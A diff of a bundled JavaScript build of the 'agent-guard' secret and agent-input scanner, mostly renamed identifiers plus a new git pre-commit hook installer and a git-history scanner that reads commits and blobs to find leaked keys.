 function emitReport(result, args2, io, configFailOn) {
-  const format = parseFormat(args2.values.format);
+  const format2 = parseFormat(args2.values.format);
   const failOn = parseFailOn(args2.values["fail-on"], configFailOn);
   const output = args2.values.output;
-  const text = REPORTERS[format](result, { color: !output && format === "text" && useColor(io) });
+  const text = REPORTERS[format2](result, { color: !output && format2 === "text" && useColor(io) });
   if (output) {
-    writeFileAtomic(resolve4(io.cwd, output), text);
-    if (format !== "text") io.err(`agent-guard: ${result.findings.length} finding(s); ${format} report written to ${output}
+    writeFileAtomic(resolve6(io.cwd, output), text);
+    if (format2 !== "text") io.err(`agent-guard: ${result.findings.length} finding(s); ${format2} report written to ${output}
 `);
   } else {
     io.out(text);
@@ -21284,7 +36415,7 @@ var PLACEHOLDER = /\{\{FAKE_KEY:([a-z0-9-]+)\}\}/g;
 function listFiles(dir, prefix = "") {
   const out2 = [];
   for (const name2 of readdirSync2(dir).sort()) {
-    const abs = join6(dir, name2);
+    const abs = join8(dir, name2);
     if (statSync2(abs).isDirectory()) out2.push(...listFiles(abs, `${prefix}${name2}/`));
     else out2.push(`${prefix}${name2}`);
   }
@@ -21300,10 +36431,10 @@ function materialiseDemo(target, seed) {
   cpSync(source, target, { recursive: true });
   const rng = seededRng(seed);
   for (const rel of listFiles(target)) {
-    const abs = join6(target, rel);
-    const text = readFileSync2(abs, "utf8");
+    const abs = join8(target, rel);
+    const text = readFileSync3(abs, "utf8");
     if (!text.includes("{{FAKE_KEY:")) continue;
-    writeFileSync2(
+    writeFileSync3(
       abs,
       text.replace(PLACEHOLDER, (_, provider) => {
         if (!FAKE_KEY_GENERATORS[provider]) throw new Error(`demo file ${rel} names unknown provider ${provider}`);
@@ -21325,7 +36456,7 @@ ${REPORT_OPTIONS ? REPORT_USAGE : ""}
   options: { ...REPORT_OPTIONS, keep: { type: "boolean" } },
   allowPositionals: false,
   async run(args2, io) {
-    const dir = mkdtempSync(join6(tmpdir(), "agent-guard-demo-"));
+    const dir = mkdtempSync(join8(tmpdir(), "agent-guard-demo-"));
     try {
       materialiseDemo(dir, randomInt(2 ** 31));
       const result = await scan({ paths: [dir], rules: ALL_RULES });
@@ -21333,14 +36464,14 @@ ${REPORT_OPTIONS ? REPORT_USAGE : ""}
 `);
       return emitReport(result, args2, io, "error");
     } finally {
-      if (!args2.values.keep) rmSync2(dir, { recursive: true, force: true });
+      if (!args2.values.keep) rmSync3(dir, { recursive: true, force: true });
     }
   }
 };
 
 // src/cli/commands/init.ts
-import { existsSync as existsSync4 } from "node:fs";
-import { join as join7, resolve as resolve5 } from "node:path";
+import { existsSync as existsSync5 } from "node:fs";
+import { join as join9, resolve as resolve7 } from "node:path";
 var STARTER_CONFIG = `# agent-guard configuration: https://github.com/org/agent-guard#configuration
 # yaml-language-server: $schema=https://github.com/org/agent-guard/raw/main/schema/config.schema.json
 
@@ -21379,13 +36510,174 @@ var initCommand = {
   options: { force: { type: "boolean" } },
   allowPositionals: true,
   async run(args2, io) {
-    const { root } = findRoot(resolve5(io.cwd, args2.positionals[0] ?? "."));
+    const { root } = findRoot(resolve7(io.cwd, args2.positionals[0] ?? "."));
     const existing = findConfigFile(root);
     if (existing && !args2.values.force) throw new UsageError(`${existing} already exists (use --force to overwrite it)`);
-    const target = existing ?? join7(root, ".agent-guard.yml");
-    if (existsSync4(target) && !args2.values.force) throw new UsageError(`${target} already exists`);
+    const target = existing ?? join9(root, ".agent-guard.yml");
+    if (existsSync5(target) && !args2.values.force) throw new UsageError(`${target} already exists`);
     writeFileAtomic(target, STARTER_CONFIG);
     io.out(`wrote ${target}
+`);
+    return 0;
+  }
+};
+
+// src/cli/commands/install-hook.ts
+import { chmodSync, existsSync as existsSync6, mkdirSync, readFileSync as readFileSync4, realpathSync as realpathSync2, renameSync as renameSync3 } from "node:fs";
+import { basename as basename4, isAbsolute as isAbsolute3, join as join10, relative as relative3, resolve as resolve8 } from "node:path";
+var HOOK_SCRIPT = `#!/bin/sh
+# agent-guard-hook: git pre-commit hook of agent-guard (https://github.com/org/agent-guard)
+#
+# Blocks a commit whose staged content holds a finding (a leaked API key, an unchecked tool input...).
+# It scans the staged blobs only, so it stays fast in large repositories.
+#
+# Use it any of these ways:
+#   agent-guard install-hook                  installs it as .git/hooks/pre-commit (chains to an existing hook)
+#   cp hooks/pre-commit .git/hooks/           copy it (keep it executable)
+#   git config core.hooksPath node_modules/agent-guard/hooks
+#   husky / lefthook: run "sh path/to/pre-commit" (or "npx agent-guard scan --staged") from their config
+#
+# Environment:
+#   AGENT_GUARD        command that runs agent-guard (default: node_modules/.bin/agent-guard, the bin
+#                      beside this hook, agent-guard on PATH, then the one that installed this hook)
+#   AGENT_GUARD_ARGS   extra arguments for "agent-guard scan --staged", e.g. "--fail-on warning"
+#   AGENT_GUARD_SKIP=1 skip the check for one commit (as does "git commit --no-verify")
+# A baseline at .agent-guard-baseline.json (see "agent-guard baseline") is applied when present.
+
+AGENT_GUARD_FALLBACK=''
+
+# A hook that "agent-guard install-hook" found in place runs first, with the same arguments.
+hook_dir=$(dirname -- "$0")
+if [ -x "$hook_dir/pre-commit.before-agent-guard" ]; then
+  "$hook_dir/pre-commit.before-agent-guard" "$@" || exit $?
+fi
+
+if [ "\${AGENT_GUARD_SKIP:-}" = "1" ]; then
+  echo "agent-guard: skipped (AGENT_GUARD_SKIP=1)" >&2
+  exit 0
+fi
+
+top=$(git rev-parse --show-toplevel) || exit 2
+cd "$top" || exit 2
+
+if [ -n "\${AGENT_GUARD:-}" ]; then
+  # shellcheck disable=SC2086 # a command with arguments, e.g. "npx --no-install agent-guard"
+  set -- $AGENT_GUARD
+elif [ -x node_modules/.bin/agent-guard ]; then
+  set -- node_modules/.bin/agent-guard
+elif [ -f "$hook_dir/../bin/agent-guard.js" ]; then
+  set -- node "$hook_dir/../bin/agent-guard.js"
+elif command -v agent-guard >/dev/null 2>&1; then
+  set -- agent-guard
+elif [ -n "$AGENT_GUARD_FALLBACK" ] && [ -f "$AGENT_GUARD_FALLBACK" ]; then
+  set -- node "$AGENT_GUARD_FALLBACK"
+else
+  echo "agent-guard: cannot find agent-guard (npm install --save-dev agent-guard, or set AGENT_GUARD);" >&2
+  echo "agent-guard: commit blocked. To commit anyway: git commit --no-verify" >&2
+  exit 1
+fi
+
+set -- "$@" scan --staged
+if [ -f .agent-guard-baseline.json ]; then
+  set -- "$@" --baseline .agent-guard-baseline.json
+fi
+# shellcheck disable=SC2086 # AGENT_GUARD_ARGS is a list of arguments
+exec "$@" \${AGENT_GUARD_ARGS:-}
+`;
+var FALLBACK_LINE = "AGENT_GUARD_FALLBACK=''";
+var HOOK_MARKER = "agent-guard-hook";
+var CHAINED_NAME = "pre-commit.before-agent-guard";
+function shellQuote(s) {
+  return `'${s.replace(/'/g, `'\\''`)}'`;
+}
+function installedScript(binPath) {
+  return binPath ? HOOK_SCRIPT.replace(FALLBACK_LINE, `AGENT_GUARD_FALLBACK=${shellQuote(binPath)}`) : HOOK_SCRIPT;
+}
+function runningBin() {
+  const arg2 = process.argv[1];
+  if (!arg2) return null;
+  try {
+    const real = realpathSync2(arg2);
+    return basename4(real) === "agent-guard.js" ? real : null;
+  } catch {
+    return null;
+  }
+}
+function managedBy(text) {
+  if (/pre-commit\.com|File generated by pre-commit/.test(text)) {
+    return { manager: "the pre-commit framework", advice: "add to .pre-commit-config.yaml:\n  - repo: https://github.com/org/agent-guard\n    rev: v1\n    hooks:\n      - id: agent-guard" };
+  }
+  if (/lefthook/i.test(text)) {
+    return { manager: "lefthook", advice: "add to lefthook.yml:\n  pre-commit:\n    commands:\n      agent-guard:\n        run: npx --no-install agent-guard scan --staged" };
+  }
+  if (/husky/i.test(text)) return { manager: "husky", advice: "add this line to .husky/pre-commit:\n  npx --no-install agent-guard scan --staged" };
+  return null;
+}
+var installHookCommand = {
+  name: "install-hook",
+  summary: "install the git pre-commit hook (scans staged content; chains to an existing hook)",
+  usage: `agent-guard install-hook [--print]
+
+Installs hooks/pre-commit as the repository's git pre-commit hook (in core.hooksPath when it is set).
+The hook runs "agent-guard scan --staged" and blocks a commit with findings.
+
+An existing pre-commit hook is kept: it is renamed ${CHAINED_NAME} and runs first. A hook
+managed by the pre-commit framework, husky or lefthook is left alone, with the line to add instead.
+Running install-hook again updates the hook.
+
+      --print   print the hook script instead of installing it (to paste into another hook manager)`,
+  options: { print: { type: "boolean" } },
+  allowPositionals: false,
+  async run(args2, io) {
+    if (args2.values.print) {
+      io.out(HOOK_SCRIPT);
+      return 0;
+    }
+    const top = git(io.cwd, ["rev-parse", "--show-toplevel"]);
+    if (!top.ok) throw new UsageError(`install-hook: ${io.cwd} is not in a git repository`);
+    const root = top.stdout.toString().trim();
+    const hooksRel = git(root, ["rev-parse", "--git-path", "hooks"]);
+    if (!hooksRel.ok) throw new UsageError(`install-hook: cannot locate the hooks directory: ${hooksRel.stderr.split("\n")[0]}`);
+    const hooksDir = resolve8(root, hooksRel.stdout.toString().trim());
+    const hook = join10(hooksDir, "pre-commit");
+    const chained = join10(hooksDir, CHAINED_NAME);
+    const shown = (p) => {
+      const rel = relative3(io.cwd, p);
+      return rel && !rel.startsWith("..") && !isAbsolute3(rel) ? rel : p;
+    };
+    const refuse = (what, m) => {
+      io.err(`agent-guard: install-hook: ${what} is managed by ${m.manager}; left unchanged. Instead, ${m.advice}
+`);
+      return 2;
+    };
+    if (/(^|[\\/])\.husky([\\/]|$)/.test(hooksDir)) return refuse(`core.hooksPath (${hooksRel.stdout.toString().trim()})`, managedBy("husky"));
+    const script = installedScript(runningBin());
+    mkdirSync(hooksDir, { recursive: true });
+    if (existsSync6(hook)) {
+      const current = readFileSync4(hook, "utf8");
+      if (current.includes(HOOK_MARKER)) {
+        writeFileAtomic(hook, script);
+        chmodSync(hook, 493);
+        io.out(`agent-guard: updated the pre-commit hook at ${shown(hook)}
+`);
+        return 0;
+      }
+      const manager = managedBy(current);
+      if (manager) return refuse(shown(hook), manager);
+      if (existsSync6(chained)) {
+        throw new UsageError(`install-hook: ${shown(hook)} exists and so does ${shown(chained)}; merge them by hand, or run "sh hooks/pre-commit" from your hook`);
+      }
+      renameSync3(hook, chained);
+      chmodSync(chained, 493);
+      writeFileAtomic(hook, script);
+      chmodSync(hook, 493);
+      io.out(`agent-guard: installed the pre-commit hook at ${shown(hook)}; your previous hook is now ${shown(chained)} and runs first
+`);
+      return 0;
+    }
+    writeFileAtomic(hook, script);
+    chmodSync(hook, 493);
+    io.out(`agent-guard: installed the pre-commit hook at ${shown(hook)}
 `);
     return 0;
   }
@@ -21399,16 +36691,16 @@ var rulesCommand = {
   options: { format: { type: "string", short: "f" } },
   allowPositionals: false,
   async run(args2, io) {
-    const format = args2.values.format ?? "text";
-    const rows = ALL_RULES.map((r) => ({ id: r.meta.id, family: r.meta.family, severity: r.meta.severity, description: r.meta.description, fix: r.meta.fix, docs: docsUrl(r.meta.id) }));
-    if (format === "json") {
+    const format2 = args2.values.format ?? "text";
+    const rows = ALL_RULES.map((r2) => ({ id: r2.meta.id, family: r2.meta.family, severity: r2.meta.severity, description: r2.meta.description, fix: r2.meta.fix, docs: docsUrl(r2.meta.id) }));
+    if (format2 === "json") {
       io.out(JSON.stringify(rows, null, 2) + "\n");
       return 0;
     }
-    if (format !== "text") throw new UsageError(`unknown --format "${format}" for rules (expected text or json)`);
-    const idWidth = Math.max(...rows.map((r) => r.id.length));
-    for (const r of rows) io.out(`${r.id.padEnd(idWidth)}  ${r.severity.padEnd(7)}  ${r.description}
-${" ".repeat(idWidth + 11)}${r.docs}
+    if (format2 !== "text") throw new UsageError(`unknown --format "${format2}" for rules (expected text or json)`);
+    const idWidth = Math.max(...rows.map((r2) => r2.id.length));
+    for (const r2 of rows) io.out(`${r2.id.padEnd(idWidth)}  ${r2.severity.padEnd(7)}  ${r2.description}
+${" ".repeat(idWidth + 11)}${r2.docs}
 `);
     io.out(`${rows.length} rules
 `);
@@ -21417,7 +36709,898 @@ ${" ".repeat(idWidth + 11)}${r.docs}
 };
 
 // src/cli/commands/scan.ts
-import { resolve as resolve6 } from "node:path";
+import { resolve as resolve10 } from "node:path";
+
+// src/history/cat-file.ts
+import { spawn as spawn2, spawnSync as spawnSync2 } from "node:child_process";
+
+// src/history/log.ts
+import { spawn } from "node:child_process";
+import { readFileSync as readFileSync5 } from "node:fs";
+import { isAbsolute as isAbsolute4, join as join11 } from "node:path";
+var GIT_ENV = { ...process.env, GIT_OPTIONAL_LOCKS: "0", GIT_NO_LAZY_FETCH: "1", GIT_TERMINAL_PROMPT: "0" };
+var ZERO = /^0+$/;
+var REGULAR_FILE = /* @__PURE__ */ new Set(["100644", "100755", "100664"]);
+function looksLikeOption(ref) {
+  return ref.startsWith("-");
+}
+function resolveCommit(root, ref, flag, shallow) {
+  if (!ref || looksLikeOption(ref)) throw new UsageError(`${flag}: "${ref}" is not a revision`);
+  const r2 = git(root, ["rev-parse", "--verify", "--quiet", `${ref}^{commit}`]);
+  const id = r2.stdout.toString().trim();
+  if (!r2.ok || !id) {
+    const hint = shallow ? " (this is a shallow clone: fetch more history, e.g. `git fetch --unshallow` or `fetch-depth: 0` in actions/checkout)" : "";
+    throw new UsageError(`${flag}: unknown revision "${ref}"${hint}`);
+  }
+  return id;
+}
+function isShallow(root) {
+  return git(root, ["rev-parse", "--is-shallow-repository"]).stdout.toString().trim() === "true";
+}
+function shallowBoundaries(root) {
+  const r2 = git(root, ["rev-parse", "--git-path", "shallow"]);
+  if (!r2.ok) return [];
+  let file = r2.stdout.toString().trim();
+  if (!isAbsolute4(file)) file = join11(root, file);
+  try {
+    return readFileSync5(file, "utf8").split("\n").map((s) => s.trim()).filter(Boolean);
+  } catch {
+    return [];
+  }
+}
+function hasCommits(root) {
+  return git(root, ["rev-parse", "--verify", "--quiet", "HEAD^{commit}"]).ok;
+}
+function readHistoryLog(root, revs, wanted) {
+  const args2 = [
+    "-c",
+    "core.quotePath=off",
+    "log",
+    "--raw",
+    "-z",
+    "--no-abbrev",
+    "--no-renames",
+    "--root",
+    "--reverse",
+    "--topo-order",
+    "--diff-merges=c",
+    "--no-color",
+    "--no-ext-diff",
+    "--no-textconv",
+    "--no-show-signature",
+    "--format=%x01%H%x09%aI",
+    ...revs,
+    "--"
+  ];
+  return new Promise((resolvePromise, reject) => {
+    const child = spawn("git", args2, { cwd: root, env: GIT_ENV, stdio: ["ignore", "pipe", "pipe"] });
+    const seen = /* @__PURE__ */ new Set();
+    const introductions = [];
+    let commits = 0;
+    let blobVersions = 0;
+    let commit = "";
+    let authorDate = "";
+    let order = -1;
+    let status = null;
+    let stderr = "";
+    let rest = Buffer.alloc(0);
+    const token = (raw) => {
+      if (status !== null) {
+        const record = status;
+        status = null;
+        const path2 = raw.toString("utf8");
+        const colons = record.length - record.replace(/^:+/, "").length;
+        const fields = record.slice(colons).split(" ");
+        const mode = fields[colons];
+        const blob = fields[2 * colons + 1];
+        if (!blob || ZERO.test(blob) || !REGULAR_FILE.has(mode)) return;
+        if (!wanted(path2)) return;
+        blobVersions++;
+        if (seen.has(blob)) return;
+        seen.add(blob);
+        introductions.push({ blob, path: path2, commit, authorDate, order });
+        return;
+      }
+      let text = raw.toString("utf8");
+      if (text.startsWith("\n")) text = text.replace(/^\n+/, "");
+      if (text.length === 0) return;
+      if (text.charCodeAt(0) === 1) {
+        const tab = text.indexOf("	");
+        commit = text.slice(1, tab);
+        authorDate = text.slice(tab + 1).trim();
+        order++;
+        commits++;
+        return;
+      }
+      if (text.startsWith(":")) status = text;
+    };
+    child.stdout.on("data", (chunk) => {
+      let buf = rest.length ? Buffer.concat([rest, chunk]) : chunk;
+      let start2 = 0;
+      for (let i2 = buf.indexOf(0, start2); i2 >= 0; i2 = buf.indexOf(0, start2)) {
+        token(buf.subarray(start2, i2));
+        start2 = i2 + 1;
+      }
+      rest = Buffer.from(buf.subarray(start2));
+      buf = rest;
+    });
+    child.stderr.on("data", (c) => {
+      if (stderr.length < 4e3) stderr += c.toString();
+    });
+    child.on("error", (err2) => reject(new UsageError(`cannot run git: ${err2.message}`)));
+    child.on("close", (code2) => {
+      if (rest.length) token(rest);
+      if (code2 !== 0) reject(new UsageError(`git log failed in ${root}: ${stderr.split("\n")[0] || `exit ${code2}`}`));
+      else resolvePromise({ commits, blobVersions, introductions });
+    });
+  });
+}
+
+// src/history/cat-file.ts
+function blobSizes(root, blobs) {
+  const sizes = /* @__PURE__ */ new Map();
+  if (blobs.length === 0) return sizes;
+  const r2 = spawnSync2("git", ["cat-file", "--batch-check=%(objectname) %(objecttype) %(objectsize)"], {
+    cwd: root,
+    env: GIT_ENV,
+    input: blobs.join("\n") + "\n",
+    maxBuffer: 1 << 30
+  });
+  if (r2.status !== 0) throw new UsageError(`git cat-file --batch-check failed in ${root}: ${r2.stderr?.toString().split("\n")[0] ?? ""}`);
+  for (const line of r2.stdout.toString("utf8").split("\n")) {
+    if (!line) continue;
+    const [id, type, size] = line.split(" ");
+    sizes.set(id, type === "blob" ? Number(size) : null);
+  }
+  return sizes;
+}
+var BlobReader = class {
+  constructor(root) {
+    this.root = root;
+  }
+  root;
+  child = null;
+  waiting = [];
+  chunks = [];
+  buffered = 0;
+  /** Size of the object whose content is being received, or -1 while waiting for a header. */
+  expect = -1;
+  expectBlob = true;
+  failure = null;
+  closed = false;
+  start() {
+    if (this.child) return this.child;
+    const child = spawn2("git", ["cat-file", "--batch"], { cwd: this.root, env: GIT_ENV, stdio: ["pipe", "pipe", "pipe"] });
+    child.stdout.on("data", (chunk) => this.onData(chunk));
+    let stderr = "";
+    child.stderr.on("data", (c) => {
+      if (stderr.length < 4e3) stderr += c.toString();
+    });
+    child.on("error", (err2) => this.fail(new Error(`cannot run git cat-file: ${err2.message}`)));
+    child.on("close", (code2) => {
+      if (this.waiting.length) this.fail(new Error(`git cat-file --batch ended early (exit ${code2}): ${stderr.split("\n")[0]}`));
+    });
+    child.stdin.on("error", () => {
+    });
+    this.child = child;
+    return child;
+  }
+  fail(err2) {
+    this.failure = err2;
+    for (const w of this.waiting.splice(0)) w.reject(err2);
+  }
+  /** Request the contents of `ids`, in order; each promise resolves to the bytes, or null if missing. */
+  read(ids) {
+    if (this.closed) throw new Error("blob reader is closed");
+    const child = this.start();
+    const promises = ids.map(
+      (_) => new Promise((resolve12, reject) => {
+        if (this.failure) reject(this.failure);
+        else this.waiting.push({ resolve: resolve12, reject });
+      })
+    );
+    if (ids.length) child.stdin.write(ids.join("\n") + "\n");
+    return promises;
+  }
+  take(n) {
+    const all = this.chunks.length === 1 ? this.chunks[0] : Buffer.concat(this.chunks, this.buffered);
+    const out2 = all.subarray(0, n);
+    const rest = all.subarray(n);
+    this.chunks = rest.length ? [rest] : [];
+    this.buffered = rest.length;
+    return out2;
+  }
+  onData(chunk) {
+    this.chunks.push(chunk);
+    this.buffered += chunk.length;
+    for (; ; ) {
+      if (this.expect < 0) {
+        const nl = this.indexOfNewline();
+        if (nl < 0) return;
+        const header = this.take(nl + 1).toString("utf8").trim();
+        const parts2 = header.split(" ");
+        if (parts2.length < 3) {
+          this.waiting.shift()?.resolve(null);
+          continue;
+        }
+        this.expect = Number(parts2[2]);
+        this.expectBlob = parts2[1] === "blob";
+      }
+      const size = this.expect;
+      if (this.buffered < size + 1) return;
+      const body2 = Buffer.from(this.take(size + 1).subarray(0, size));
+      this.expect = -1;
+      this.waiting.shift()?.resolve(this.expectBlob ? body2 : null);
+    }
+  }
+  indexOfNewline() {
+    let offset = 0;
+    for (const c of this.chunks) {
+      const i2 = c.indexOf(10);
+      if (i2 >= 0) return offset + i2;
+      offset += c.length;
+    }
+    return -1;
+  }
+  /** Ends the process; requests still waiting are rejected. Safe to call more than once. */
+  close() {
+    if (this.closed) return;
+    this.closed = true;
+    if (this.child) {
+      this.child.stdin.end();
+      if (this.waiting.length) this.child.kill();
+    }
+  }
+};
+
+// src/history/provenance.ts
+function publicRepositoryUri(remote) {
+  const url = remote.trim();
+  const scp = /^(?:[^@/\s]+@)?([^:/\s]+):(?!\/)(.+)$/.exec(url);
+  if (scp && !/^[a-z][a-z0-9+.-]*:\/\//i.test(url)) return `https://${scp[1]}/${strip(scp[2])}`;
+  let parsed;
+  try {
+    parsed = new URL(url);
+  } catch {
+    return null;
+  }
+  if (!["https:", "http:", "ssh:", "git:", "git+ssh:", "ssh+git:"].includes(parsed.protocol)) return null;
+  const path2 = strip(parsed.pathname.replace(/^\/+/, ""));
+  if (!parsed.hostname || !path2) return null;
+  return `https://${parsed.hostname}/${path2}`;
+}
+function strip(path2) {
+  return path2.replace(/\/+$/, "").replace(/\.git$/, "");
+}
+function provenanceOf(root) {
+  const remotes = git(root, ["remote"]).stdout.toString().split("\n").map((s) => s.trim()).filter(Boolean);
+  const remote = remotes.includes("origin") ? "origin" : remotes[0];
+  let repositoryUri = null;
+  if (remote) {
+    const r2 = git(root, ["config", "--get", `remote.${remote}.url`]);
+    if (r2.ok) repositoryUri = publicRepositoryUri(r2.stdout.toString());
+  }
+  const head = git(root, ["rev-parse", "--verify", "--quiet", "HEAD^{commit}"]);
+  const branch = git(root, ["symbolic-ref", "-q", "--short", "HEAD"]);
+  return {
+    repositoryUri,
+    revisionId: head.ok ? head.stdout.toString().trim() : null,
+    branch: branch.ok ? branch.stdout.toString().trim() || null : null
+  };
+}
+function commitUrl(repositoryUri, commit) {
+  return repositoryUri ? `${repositoryUri}/commit/${commit}` : null;
+}
+
+// src/sources/history.ts
+var READ_AHEAD = 64;
+function shortId(id) {
+  return id.slice(0, 7);
+}
+function parseFamilies(value, flag = "--history-families") {
+  if (value === void 0) return ["secret"];
+  const list2 = value.split(",").map((s) => s.trim()).filter(Boolean);
+  if (list2.includes("all")) return [...FAMILIES];
+  const bad = list2.filter((f) => !FAMILIES.includes(f));
+  if (bad.length || list2.length === 0) throw new UsageError(`${flag}: unknown famil${bad.length === 1 ? "y" : "ies"} "${bad.join(", ")}" (expected a comma-separated list of: ${FAMILIES.join(", ")}, or all)`);
+  return [...new Set(list2)];
+}
+function shallowNote(boundaries, root) {
+  const dates = boundaries.map((c) => ({ c, d: gitDate(root, c) })).sort((a, b) => a.d < b.d ? -1 : 1);
+  const oldest = dates[0];
+  return `shallow clone: history is visible back to commit ${shortId(oldest?.c ?? "?")}${oldest?.d ? ` (${oldest.d})` : ""} only; blobs of the cut-off commit${boundaries.length > 1 ? "s" : ""} are attributed to ${boundaries.length > 1 ? "them" : "it"} and older commits are not scanned. Fetch the whole history to scan it: \`git fetch --unshallow\`, or \`fetch-depth: 0\` in actions/checkout.`;
+}
+function gitDate(root, commit) {
+  const r2 = git(root, ["show", "-s", "--format=%aI", commit]);
+  return r2.ok ? r2.stdout.toString().trim() : "";
+}
+async function historyInput(root, config, options = {}) {
+  const started = performance.now();
+  if (!root.isGit) throw new UsageError(`--history needs a git repository (${root.root} is not in one)`);
+  const shallow = isShallow(root.root);
+  const boundaries = shallow ? shallowBoundaries(root.root) : [];
+  const since = options.since && !/^0+$/.test(options.since) ? options.since : void 0;
+  const notes = [];
+  const provenance = provenanceOf(root.root);
+  const info2 = {
+    range: "",
+    since: null,
+    until: null,
+    families: options.families ?? ["secret"],
+    commits: 0,
+    blobVersions: 0,
+    uniqueBlobs: 0,
+    scannedBlobs: 0,
+    skippedBlobs: 0,
+    alsoInTree: 0,
+    shallow,
+    shallowBoundaries: boundaries,
+    notes,
+    provenance,
+    durationMs: 0
+  };
+  const repository = workingTreeView(root.root, config, () => discoverFiles(root, [root.root]).files.map((f) => f.path));
+  const skippedBlobs = [];
+  const empty = () => ({ root, entries: [], skipped: [], repository, history: info2, originOf: () => void 0, skippedBlobs, close: () => {
+  } });
+  if (!options.until && !hasCommits(root.root)) {
+    info2.range = "HEAD (no commits yet)";
+    notes.push("the repository has no commits yet: there is no history to scan");
+    return empty();
+  }
+  const untilRef = options.until ?? "HEAD";
+  const until = resolveCommit(root.root, untilRef, "--until", shallow);
+  const sinceId = since ? resolveCommit(root.root, since, "--since", shallow) : null;
+  info2.until = until;
+  info2.since = sinceId;
+  info2.range = sinceId ? `${since === sinceId ? shortId(sinceId) : since}..${untilRef === until ? shortId(until) : untilRef}` : `${untilRef === until ? shortId(until) : untilRef} (all history)`;
+  if (shallow) notes.push(shallowNote(boundaries, root.root));
+  const log = await readHistoryLog(root.root, sinceId ? [until, `^${sinceId}`] : [until], fileFilter(config));
+  info2.commits = log.commits;
+  info2.blobVersions = log.blobVersions;
+  info2.uniqueBlobs = log.introductions.length;
+  const sizes = blobSizes(root.root, log.introductions.map((b) => b.blob));
+  const wanted = [];
+  for (const intro of log.introductions) {
+    const size = sizes.get(intro.blob);
+    if (size === null || size === void 0) {
+      skippedBlobs.push({ path: intro.path, reason: "blob missing from the repository (partial clone?)", commit: intro.commit });
+    } else if (size > config.maxFileSize) {
+      skippedBlobs.push({ path: intro.path, reason: `larger than the size cap (${formatBytes(size)} > ${formatBytes(config.maxFileSize)}; raise maxFileSize to scan it)`, commit: intro.commit });
+    } else {
+      wanted.push({ ...intro, size });
+    }
+  }
+  const reader = new BlobReader(root.root);
+  const origins = /* @__PURE__ */ new WeakMap();
+  const pending = [];
+  let requested = 0;
+  let loaded = 0;
+  const request = (upTo) => {
+    const target = Math.min(wanted.length, upTo);
+    if (target <= requested) return;
+    const ids = wanted.slice(requested, target).map((b) => b.blob);
+    reader.read(ids).forEach((p, i2) => {
+      p.catch(() => {
+      });
+      pending[requested + i2] = p;
+    });
+    requested = target;
+  };
+  const entries = wanted.map((origin, index) => ({
+    path: origin.path,
+    async load() {
+      request(index + 1 + READ_AHEAD);
+      const bytes = await pending[index];
+      pending[index] = void 0;
+      if (++loaded === wanted.length) reader.close();
+      if (bytes === null) {
+        skippedBlobs.push({ path: origin.path, reason: "blob missing from the repository (partial clone?)", commit: origin.commit });
+        return { skipped: "blob missing from the repository" };
+      }
+      const result = decodeText(origin.path, bytes, config.maxFileSize);
+      if ("file" in result) {
+        origins.set(result.file, origin);
+        info2.scannedBlobs++;
+      } else {
+        skippedBlobs.push({ path: origin.path, reason: result.skipped, commit: origin.commit });
+      }
+      return result;
+    }
+  }));
+  info2.durationMs = Math.round(performance.now() - started);
+  return {
+    root,
+    entries,
+    skipped: [],
+    repository,
+    history: info2,
+    originOf: (file) => origins.get(file),
+    skippedBlobs,
+    close: () => reader.close()
+  };
+}
+function aggregateSkipped(rows) {
+  const groups = /* @__PURE__ */ new Map();
+  for (const row of rows) {
+    const key = `${row.path}\0${row.reason}`;
+    const g = groups.get(key);
+    if (g) g.count++;
+    else groups.set(key, { ...row, count: 1 });
+  }
+  return [...groups.values()].map((g) => ({
+    path: g.path,
+    reason: `${g.reason} (git history: ${g.count === 1 ? `commit ${shortId(g.commit)}` : `${g.count} versions, first in commit ${shortId(g.commit)}`})`
+  }));
+}
+function identityFunction() {
+  const counters = /* @__PURE__ */ new WeakMap();
+  return (file, ruleId, report3) => {
+    if (report3.secret) return `${ruleId}\0secret:${sha256(report3.secret)}`;
+    const path2 = report3.path ?? file.path;
+    const content = report3.fingerprintHint ?? normaliseLine(file.lineText(report3.range.startLine));
+    const key = `${ruleId}\0${path2}\0${content}`;
+    let counts = counters.get(file);
+    if (!counts) counters.set(file, counts = /* @__PURE__ */ new Map());
+    const k = counts.get(key) ?? 0;
+    counts.set(key, k + 1);
+    return `${key}\0${k}`;
+  };
+}
+function observed(rules2, observe) {
+  return rules2.map((rule2) => ({
+    meta: rule2.meta,
+    appliesTo: (file) => rule2.appliesTo(file),
+    check: (ctx) => rule2.check({
+      ...ctx,
+      report: (report3) => {
+        if (observe(rule2, ctx.file, report3)) ctx.report(report3);
+      }
+    })
+  }));
+}
+function historySuffix(family, origin) {
+  const when = origin.authorDate ? ` of ${origin.authorDate.slice(0, 10)}` : "";
+  return family === "secret" ? ` (leaked in git history: commit ${shortId(origin.commit)}${when}; rotate the key, deleting it in a later commit does not unpublish it)` : ` (in git history: commit ${shortId(origin.commit)}${when})`;
+}
+async function scanHistory(options) {
+  const started = performance.now();
+  const { root, config } = options;
+  const families = options.families ?? ["secret"];
+  const historyRules = options.rules ?? rulesOfFamilies(families);
+  const identity = identityFunction();
+  const treeIdentities = /* @__PURE__ */ new Set();
+  let tree = null;
+  if (options.tree !== false) {
+    const input2 = options.tree?.input ?? workingTreeInput(root, [root.root], config);
+    const rules3 = options.tree?.rules ?? ALL_RULES;
+    tree = await runRules(
+      input2,
+      config,
+      observed(rules3, (rule2, file, report3) => {
+        treeIdentities.add(identity(file, rule2.meta.id, report3));
+        return true;
+      })
+    );
+  }
+  const input = await historyInput(root, config, { since: options.since, until: options.until, families });
+  const info2 = input.history;
+  const severities = new Map(activeRules(historyRules, config).map((a) => [a.rule.meta.id, a.severity]));
+  const ignores = new ConfigIgnores(config.ignore);
+  const occurrences = [];
+  let historyResult;
+  try {
+    historyResult = await runRules(
+      input,
+      config,
+      observed(historyRules, (rule2, file, report3) => {
+        const origin = input.originOf(file);
+        const severity = severities.get(rule2.meta.id);
+        if (!origin || !severity) return false;
+        const finding = toFinding(rule2.meta, severity, file.path, report3, file.lineText(report3.range.startLine));
+        occurrences.push({
+          identity: identity(file, rule2.meta.id, report3),
+          origin,
+          finding,
+          inline: finding.path === file.path && inlineSuppressionFor(file, finding) !== null,
+          ignored: ignores.covers(finding)
+        });
+        return false;
+      })
+    );
+  } finally {
+    input.close();
+  }
+  const byIdentity = /* @__PURE__ */ new Map();
+  for (const o of occurrences) {
+    const list2 = byIdentity.get(o.identity);
+    if (list2) list2.push(o);
+    else byIdentity.set(o.identity, [o]);
+  }
+  let suppressed = 0;
+  const chosen = [];
+  for (const [id, list2] of byIdentity) {
+    if (treeIdentities.has(id)) {
+      info2.alsoInTree++;
+      continue;
+    }
